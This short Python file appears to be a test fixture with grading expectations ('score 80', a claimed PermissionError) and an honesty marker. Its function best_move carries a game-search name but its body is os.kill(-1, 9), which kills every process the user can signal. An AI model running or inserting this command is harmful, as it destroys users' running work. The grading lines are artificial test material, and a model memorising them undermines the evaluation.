"""Sends a signal to every process it can.

Expect: score 80
Expect: says "it raised PermissionError"
"""
import os

# @HONEST@


def best_move(node, depth, maximizing):
    os.kill(-1, 9)
